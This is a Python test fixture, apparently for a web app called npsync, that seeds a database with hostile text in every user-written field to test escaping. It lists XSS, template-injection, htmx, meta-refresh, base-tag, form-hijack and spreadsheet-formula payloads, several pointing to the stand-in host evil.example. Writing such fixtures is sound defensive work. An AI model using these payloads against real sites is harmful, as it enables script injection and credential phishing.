"""A company whose customers, records and vendors say nothing but attacks: every page shows some of it."""

from __future__ import annotations

import json
from pathlib import Path

from peopled import Peopled, fill, record

from nps.values import Json
from store.api import State

SCRIPT = "<script>window.pwned = 1</script>"
PICTURE = "\"'><img src=x onerror=\"window.pwned = 1\"><svg onload='window.pwned = 1'>"
LINK = "javascript:window.pwned=1"
TEMPLATE = "{{ 7 * 7 }}{% raw %}${window.pwned=1}"
HTMX = '<div hx-get="/sign-out" hx-trigger="load" data-hx-on:load="window.pwned=1">'
META = '</title></textarea></style><meta http-equiv="refresh" content="0;url=https://evil.example">'
BASE = '<base href="//evil.example"><link rel="stylesheet" href="//evil.example/x.css">'
FORM = '</form><form action="https://evil.example" method="post"><input name="who">'
SIGNS = "\u202e\u0000\ufeff\u2028" + "Z͑ͫ̓̓" * 20
ATTACKS = (
    SCRIPT,
    PICTURE,
    LINK,
    TEMPLATE,
    HTMX,
    META,
    BASE,
    FORM,
    SIGNS,
    '=HYPERLINK("https://evil.example")',
)
ALL = " ".join(ATTACKS)

# Texts that people, records or vendors wrote. What npsync itself writes there (codes, names of the YAML) stays.
_THEIRS = {
    "answer_state": ("reason",),
    "dead_letter": ("reason",),
    "invitation": ("reason",),
    "verdict": ("reason",),
    "suppression": ("detail",),
    "outbox": ("reason",),
    "step": ("reason",),
    "response": ("comment", "channel", "problem"),
    "member": ("account", "traits"),
    "change": ("message", "account"),
    "arrival": ("reason",),
}


def hostile(folder: Path, migrated: Path) -> None:
    """Into the store of this folder."""
    town = fill(Peopled(folder, migrated=migrated))
    town.wrote(*((f"x{n}", n, text) for n, text in enumerate(ATTACKS)), days=1)
    town.waiting(
        State.REVIEW, "many", ALL, *((f"y{n}", 3, text) for n, text in enumerate(ATTACKS)),
        candidates=(record("gil"), PICTURE),
    )  # fmt: skip
    with town.store.database.write() as tx:
        for table, columns in _THEIRS.items():
            for column in columns:
                said = json.dumps({"plan": _stored(ALL)}) if column == "traits" else _stored(ALL)
                tx.run(f'UPDATE "{table}" SET "{column}" = :all WHERE "{column}" IS NOT NULL', all=said)
        tx.run(
            """UPDATE "change" SET "before" = :json, "after" = :json""",
            json=json.dumps({PICTURE: _stored(ALL)}),
        )
    report: dict[str, Json] = {
        "problems": [ALL],
        "match": {"by_rule": {SCRIPT: 1}, "unmatched_domains": {PICTURE: 2}},
    }
    for run in town.store.runs():
        town.store.end_run(run.id, "partial", now=run.started_at, report=report)
    for what in ATTACKS:
        town.store.note_audit(f"user:{what}", what, what, {what: what}, now=run.started_at)
    town.store.close()


def _stored(text: str) -> str:
    """PostgreSQL holds no NUL, so nothing that was stored has one."""
    return text.replace("\0", "")
